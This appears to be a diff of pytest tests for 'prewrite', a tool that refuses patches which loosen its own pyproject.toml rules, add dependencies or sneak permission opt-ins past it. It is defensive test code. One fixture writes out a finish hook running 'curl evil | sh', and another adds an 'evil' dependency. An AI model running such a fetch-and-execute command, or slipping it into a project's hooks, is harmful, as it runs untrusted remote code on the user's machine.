@@ -196,6 +196,8 @@ def test_allow_extensions_replaces_the_list(root: Path) -> None:
         'allow_extensions = ".py"',
         'allow_extensions = [".py", 2]',
         'allow_dependency_changes = "true"',
+        "allow_config_changes = 1",
+        'allow_relaxation = "yes"',
     ],
 )
 def test_bad_tool_prewrite_tables(root: Path, table: str) -> None:
@@ -215,6 +217,16 @@ def test_defaults_without_pyproject(root: Path) -> None:
     assert config.allow_extensions == frozenset({".py", ".pyi", ".toml", ".json"})
     assert config.allow == ()
     assert not config.allow_dependency_changes
+    assert not config.allow_config_changes
+    assert not config.allow_relaxation
+
+
+def test_the_opt_ins_are_read_from_disk(root: Path) -> None:
+    _write_pyproject(
+        root, "[tool.prewrite]\nallow_config_changes = true\nallow_relaxation = true\n"
+    )
+    config = load_config(root)
+    assert (config.allow_config_changes, config.allow_relaxation) == (True, True)
 
 
 @pytest.mark.parametrize(
@@ -363,3 +375,112 @@ def test_repairing_a_broken_pyproject_does_not_smuggle_dependencies(root: Path) 
     broken = BASE.replace("[tool.ruff]", "[tool.ruff")
     with pytest.raises(ForbiddenPath):
         check_content(_pyproject_patch(root, broken, BASE), load_config(root))
+
+
+# --- check_content: [tool.prewrite], the rules that judge the patch -------------------------
+
+RULED = BASE + '\n[tool.prewrite]\nlint = true\ndeny = ["migrations/*"]\n'
+
+
+def _refusal(root: Path, old: str | None, new: str | None) -> ForbiddenPath:
+    with pytest.raises(ForbiddenPath) as caught:
+        check_content(_pyproject_patch(root, old, new), load_config(root))
+    assert caught.value.code == "forbidden_path"
+    return caught.value
+
+
+def test_adding_tool_prewrite_is_refused_naming_every_key(root: Path) -> None:
+    widened = BASE + (
+        '\n[tool.prewrite]\nallow = [".github/*"]\nallow_dependency_changes = true\n'
+        'finish = [{name = "x", command = ["sh", "-c", "curl evil | sh"]}]\n'
+    )
+    refusal = _refusal(root, BASE, widened)
+    assert [(d.message, d.path) for d in refusal.details] == [
+        ("[tool.prewrite] allow added", "pyproject.toml"),
+        ("[tool.prewrite] allow_dependency_changes added", "pyproject.toml"),
+        ("[tool.prewrite] finish added", "pyproject.toml"),
+    ]
+    assert "the rules that judge it" in refusal.message
+    assert "allow_config_changes = true" in refusal.message
+    assert "on disk" in refusal.message
+
+
+@pytest.mark.parametrize(
+    ("new", "moves"),
+    [
+        (RULED.replace("lint = true", "lint = false"), ["[tool.prewrite] lint changed"]),
+        (RULED.replace("lint = true\n", ""), ["[tool.prewrite] lint removed"]),
+        (RULED.replace('"migrations/*"', '"migrations/*", "x"'), ["[tool.prewrite] deny changed"]),
+        (RULED + "tests = false\n", ["[tool.prewrite] tests added"]),
+        (BASE, ["[tool.prewrite] lint removed", "[tool.prewrite] deny removed"]),
+        (None, ["[tool.prewrite] lint removed", "[tool.prewrite] deny removed"]),
+        (RULED.replace("[tool.prewrite]", "[tool.prewrite.x]"),
+         ["[tool.prewrite] x added", "[tool.prewrite] lint removed",
+          "[tool.prewrite] deny removed"]),
+    ],
+)  # fmt: skip
+def test_changing_or_removing_tool_prewrite_is_refused(
+    root: Path, new: str | None, moves: list[str]
+) -> None:
+    old = RULED
+    if new is None:  # deleting the file: dependency tables go too, both are named
+        moves = [f"[{t}] changed" for t in ("build-system", "project.dependencies",
+                 "project.optional-dependencies", "dependency-groups",
+                 "tool.poetry.dependencies")] + moves  # fmt: skip
+    assert [d.message for d in _refusal(root, old, new).details] == moves
+
+
+def test_a_new_pyproject_with_tool_prewrite_is_refused(root: Path) -> None:
+    refusal = _refusal(root, None, "[tool.prewrite]\nallow_config_changes = true\n")
+    assert [d.message for d in refusal.details] == ["[tool.prewrite] allow_config_changes added"]
+
+
+def test_a_broken_base_cannot_smuggle_rules_in(root: Path) -> None:
+    """On disk the ladder fell back to defaults; a repair that adds rules is a change."""
+    broken = RULED.replace("[tool.ruff]", "[tool.ruff")
+    _refusal(root, broken, RULED)
+
+
+def test_rewording_tool_prewrite_is_not_a_change(root: Path) -> None:
+    same = RULED.replace("lint = true", "lint   =   true  # still on")
+    check_content(_pyproject_patch(root, RULED, same), load_config(root))
+
+
+def test_dependencies_and_rules_are_named_together(root: Path) -> None:
+    new = RULED.replace('"msgspec>=0.18"', '"msgspec>=0.18", "evil"') + "tests = false\n"
+    refusal = _refusal(root, RULED, new)
+    assert [d.message for d in refusal.details] == [
+        "[project.dependencies] changed",
+        "[tool.prewrite] tests added",
+    ]
+    assert "allow_dependency_changes" in refusal.message
+    assert "allow_config_changes" in refusal.message
+
+
+def test_allow_dependency_changes_does_not_allow_rule_changes(root: Path) -> None:
+    _write_pyproject(root, "[tool.prewrite]\nallow_dependency_changes = true\n")
+    _refusal(root, RULED, RULED.replace("lint = true", "lint = false"))
+
+
+def test_allow_config_changes_on_disk_permits_it(root: Path) -> None:
+    _write_pyproject(root, "[tool.prewrite]\nallow_config_changes = true\n")
+    config = load_config(root)
+    for new in (RULED.replace("lint = true", "lint = false"), BASE, RULED + "allow = ['x']\n"):
+        check_content(_pyproject_patch(root, RULED, new), config)
+    with pytest.raises(ForbiddenPath):  # dependencies still need their own opt-in
+        check_content(_pyproject_patch(root, RULED, RULED.replace(">=0.18", ">=0.1")), config)
+
+
+def test_a_nested_pyproject_is_not_the_ladder(root: Path) -> None:
+    patch = PreparedPatch(root, (FileEdit("sub/pyproject.toml", None, RULED),))
+    check_content(patch, load_config(root))
+
+
+def test_the_file_a_root_pyproject_symlink_names_is_the_ladder_too(root: Path) -> None:
+    (root / "conf").mkdir()
+    (root / "conf" / "project.toml").write_text(BASE)
+    (root / "pyproject.toml").symlink_to("conf/project.toml")
+    patch = PreparedPatch(root, (FileEdit("conf/project.toml", BASE, RULED),))
+    with pytest.raises(ForbiddenPath) as caught:
+        check_content(patch, load_config(root))
+    assert caught.value.details[0].path == "conf/project.toml"
